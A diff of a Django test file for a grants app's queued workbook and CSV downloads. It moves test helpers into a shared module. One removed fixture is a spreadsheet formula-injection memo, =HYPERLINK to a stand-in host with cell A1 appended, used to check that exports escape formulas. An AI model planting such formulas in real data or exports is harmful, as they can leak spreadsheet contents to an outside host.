@@ -6,9 +6,7 @@ import csv
 import hashlib
 import io
 import re
-import uuid
 from datetime import UTC, date, datetime, time, timedelta
-from decimal import Decimal
 
 import pytest
 from django.core.files.base import ContentFile
@@ -19,34 +17,12 @@ from django.utils import timezone
 from django_tasks_db.models import DBTaskResult
 from openpyxl import load_workbook
 
-from budgets.models import LedgerEntry
 from grants import access
 from grants.audit import AuditEvent
-from grants.models import Award
 from reports import prepared, workers
 from reports.models import PreparedDownload
 from tests import factories
-
-HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"Open")'
-BRAVO_MEMO = "Bravo-only memo"
-
-
-def _entries(program):
-    """A drawdown on each task force's award; A's memo looks like a formula."""
-    Award.objects.filter(pk__in=[program.award_a.pk, program.award_b.pk]).update(status="active")
-    for award, amount, memo, officer in (
-        (program.award_a, "1234.56", HYPERLINK, program.officer_a),
-        (program.award_b, "777.77", BRAVO_MEMO, program.officer_b),
-    ):
-        LedgerEntry.objects.create(
-            award=award,
-            kind="drawdown",
-            amount=Decimal(amount),
-            effective_date=date(2025, 1, 5),
-            actor=officer,
-            idempotency_key=uuid.uuid4(),
-            memo=memo,
-        )
+from tests.reports.prepared_helpers import BRAVO_MEMO, HYPERLINK, ask, drawdowns_with_memos
 
 
 def _stored_bytes(download: PreparedDownload) -> bytes:
@@ -59,7 +35,7 @@ def test_the_worker_prepares_the_program_workbook_for_its_owner_only(
     client, committed_program, memory_storage
 ):
     program = committed_program
-    _entries(program)
+    drawdowns_with_memos(program)
     client.force_login(program.officer_a)
     response = client.post(reverse("exports:prepare_download"), {"kind": "workbook"})
     download = PreparedDownload.objects.get()
@@ -128,7 +104,7 @@ def test_the_worker_prepares_the_program_workbook_for_its_owner_only(
 
 
 def test_progress_is_reported_as_rows_are_written(client, program, memory_storage, monkeypatch):
-    _entries(program)
+    drawdowns_with_memos(program)
     monkeypatch.setattr(prepared, "PROGRESS_SECONDS", 0)
     monkeypatch.setattr("reports.exports.xlsx.PROGRESS_EVERY", 1)
     seen = []
@@ -165,7 +141,7 @@ def test_progress_is_reported_as_rows_are_written(client, program, memory_storag
 
 
 def test_the_ledger_downloads_as_csv_with_formulas_escaped(program, memory_storage):
-    _entries(program)
+    drawdowns_with_memos(program)
     download = prepared.request_download(
         user=program.officer_a,
         kind="ledger_csv",
@@ -277,7 +253,7 @@ def test_a_smaller_file_asked_for_later_is_written_first(
 ):
     """The workers take the file with the fewest rows first: an award's ledger as CSV is
     not held up behind the whole program's workbook asked for before it."""
-    _entries(program)
+    drawdowns_with_memos(program)
     with django_capture_on_commit_callbacks(execute=True):
         big, small = _ask_for_the_program_workbook_then_a_ledger(client, program)
     selection = prepared.selection_for(
@@ -309,7 +285,7 @@ def test_a_worker_on_each_queue_takes_only_its_own_files(
     (Committed records: the worker run in-process closes the connection.)"""
     program = committed_program
     settings.LARGE_FILE_ROWS = 2  # the whole program's workbook here has more rows
-    _entries(program)
+    drawdowns_with_memos(program)
     big, small = _ask_for_the_program_workbook_then_a_ledger(client, program)
     queues = {r.args_kwargs["args"][0]: r.queue_name for r in DBTaskResult.objects.all()}
     assert queues == {str(big.pk): "large", str(small.pk): "default"}
@@ -451,31 +427,25 @@ def test_an_address_for_the_program_summary_shows_my_downloads_outside_the_progr
     assert not PreparedDownload.objects.exists()
 
 
-def _ask(user, kind: str, **selection) -> PreparedDownload:
-    return prepared.request_download(
-        user=user, kind=kind, selection=prepared.selection_for(user=user, **selection)
-    )
-
-
 def test_one_run_writes_the_same_file_for_everyone_who_asked_while_it_waited(
     client, program, memory_storage
 ):
     """The auditor, the program manager and the approver ask for the FY2025 workbook
     before a worker is free: one run writes it, and each has the same file in their own
     My downloads. Asked for after the run started, it is a run of its own."""
-    _entries(program)
-    first = _ask(program.auditor, "workbook", fiscal_year=2025)
-    second = _ask(program.pm, "workbook", fiscal_year=2025)
-    third = _ask(program.approver, "workbook", fiscal_year=2025)
-    other_year = _ask(program.pm, "workbook", fiscal_year=2024)
-    other_kind = _ask(program.pm, "ledger_csv", fiscal_year=2025)
+    drawdowns_with_memos(program)
+    first = ask(program.auditor, "workbook", fiscal_year=2025)
+    second = ask(program.pm, "workbook", fiscal_year=2025)
+    third = ask(program.approver, "workbook", fiscal_year=2025)
+    other_year = ask(program.pm, "workbook", fiscal_year=2024)
+    other_kind = ask(program.pm, "ledger_csv", fiscal_year=2025)
     write = prepared.WRITERS["workbook"]
     late = {}
 
     another_auditor = factories.make_user("auditor2", groups=[access.AUDITOR])
 
     def asked_for_while_written(handle, **kwargs):
-        late["download"] = _ask(another_auditor, "workbook", fiscal_year=2025)
+        late["download"] = ask(another_auditor, "workbook", fiscal_year=2025)
         return write(handle, **kwargs)
 
     prepared.WRITERS["workbook"] = asked_for_while_written
@@ -523,17 +493,17 @@ def test_one_run_writes_the_same_file_for_everyone_who_asked_while_it_waited(
 def test_a_file_read_through_a_task_force_is_never_shared(program, memory_storage):
     """Task force A's ledger asked for by the auditor and by A's finance officer: the
     officer's is read through their own scope, in a run of its own."""
-    _entries(program)
+    drawdowns_with_memos(program)
     code = program.award_a.task_force.code
-    auditor = _ask(program.auditor, "ledger_csv", task_force_code=code)
-    officer = _ask(program.officer_a, "ledger_csv", task_force_code=code)
+    auditor = ask(program.auditor, "ledger_csv", task_force_code=code)
+    officer = ask(program.officer_a, "ledger_csv", task_force_code=code)
 
     prepared.prepare(auditor.pk, worker_id="worker-1")
     officer.refresh_from_db()
     assert officer.status == "queued"
 
     # Nor does the officer's run take the auditor's, asked for again.
-    again = _ask(program.auditor, "ledger_csv", task_force_code=code)
+    again = ask(program.auditor, "ledger_csv", task_force_code=code)
     prepared.prepare(officer.pk, worker_id="worker-1")
     again.refresh_from_db()
     officer.refresh_from_db()
@@ -544,8 +514,8 @@ def test_packs_and_disabled_accounts_are_never_in_a_shared_run(program, memory_s
     """An evidence pack names who generated it on every page: each is a run of its own.
     A disabled account's request is not written at all."""
     code = program.award_a.task_force.code
-    packs = [_ask(person, "pack", task_force_code=code) for person in (program.auditor, program.pm)]
-    workbooks = [_ask(p, "workbook", fiscal_year=2025) for p in (program.auditor, program.pm)]
+    packs = [ask(person, "pack", task_force_code=code) for person in (program.auditor, program.pm)]
+    workbooks = [ask(p, "workbook", fiscal_year=2025) for p in (program.auditor, program.pm)]
     program.pm.is_active = False
     program.pm.save()
 
@@ -560,8 +530,8 @@ def test_packs_and_disabled_accounts_are_never_in_a_shared_run(program, memory_s
 def test_a_shared_run_whose_copy_cannot_be_stored_leaves_no_file_behind(
     program, memory_storage, monkeypatch
 ):
-    first = _ask(program.auditor, "ledger_csv")
-    second = _ask(program.pm, "ledger_csv")
+    first = ask(program.auditor, "ledger_csv")
+    second = ask(program.pm, "ledger_csv")
     saved = []
 
     class SecondSaveFails:
@@ -588,8 +558,8 @@ def test_a_shared_run_whose_copy_cannot_be_stored_leaves_no_file_behind(
 def test_a_shared_run_that_cannot_record_one_copy_leaves_none_being_prepared(
     program, memory_storage, monkeypatch
 ):
-    first = _ask(program.auditor, "ledger_csv")
-    second = _ask(program.pm, "ledger_csv")
+    first = ask(program.auditor, "ledger_csv")
+    second = ask(program.pm, "ledger_csv")
     finish = prepared._finish
 
     def second_fails(download, **kwargs):
@@ -612,8 +582,8 @@ def test_a_shared_run_that_fails_fails_for_everyone_in_it(program, memory_storag
         raise OSError("disk full on /var/tmp")
 
     monkeypatch.setitem(prepared.WRITERS, "ledger_csv", broken)
-    first = _ask(program.auditor, "ledger_csv")
-    second = _ask(program.pm, "ledger_csv")
+    first = ask(program.auditor, "ledger_csv")
+    second = ask(program.pm, "ledger_csv")
     with pytest.raises(OSError):
         prepared.prepare(first.pk, worker_id="worker-1")
     for download in (first, second):
@@ -626,10 +596,10 @@ def test_a_shared_run_that_fails_fails_for_everyone_in_it(program, memory_storag
 
 
 def test_a_waiting_download_says_what_it_waits_for(client, program, memory_storage):
-    first = _ask(program.auditor, "workbook", fiscal_year=2025)
-    same_as_first = _ask(program.pm, "workbook", fiscal_year=2025)
-    second = _ask(program.auditor, "workbook", fiscal_year=2024)
-    third = _ask(program.auditor, "ledger_csv", fiscal_year=2025)
+    first = ask(program.auditor, "workbook", fiscal_year=2025)
+    same_as_first = ask(program.pm, "workbook", fiscal_year=2025)
+    second = ask(program.auditor, "workbook", fiscal_year=2024)
+    third = ask(program.auditor, "ledger_csv", fiscal_year=2025)
     client.force_login(program.auditor)
 
     def says(download) -> str:
@@ -666,11 +636,11 @@ def test_a_large_file_with_no_worker_on_its_queue_says_so(
     """Only a worker on "default" is alive: a file of LARGE_FILE_ROWS rows or more waits
     for a worker on "large", and its page says that no worker takes it, rather than
     what it waits behind; a small file's page is as before."""
-    _entries(program)
+    drawdowns_with_memos(program)
     settings.LARGE_FILE_ROWS = 2
-    large = _ask(program.auditor, "workbook", fiscal_year=2025)
+    large = ask(program.auditor, "workbook", fiscal_year=2025)
     settings.LARGE_FILE_ROWS = 100_000
-    small = _ask(program.auditor, "ledger_csv", fiscal_year=2025)
+    small = ask(program.auditor, "ledger_csv", fiscal_year=2025)
     assert (large.queue, small.queue) == ("large", "default")
     workers.beat("worker-1", queues=["default"])
     client.force_login(program.auditor)
@@ -698,7 +668,7 @@ def test_a_large_file_with_no_worker_on_its_queue_says_so(
     workers.beat("worker-2", queues=["large"])
     assert says(large) == "No other file is waiting: a worker will start on yours shortly."
     # A file being written on "large" is ahead of the large file only.
-    other = _ask(program.pm, "workbook", fiscal_year=2024)
+    other = ask(program.pm, "workbook", fiscal_year=2024)
     PreparedDownload.objects.filter(pk=other.pk).update(status="running", worker_id="worker-2")
     assert says(large) == "1 file is being written now; no other was asked for before yours."
     assert says(small) == "No other file is waiting: a worker will start on yours shortly."
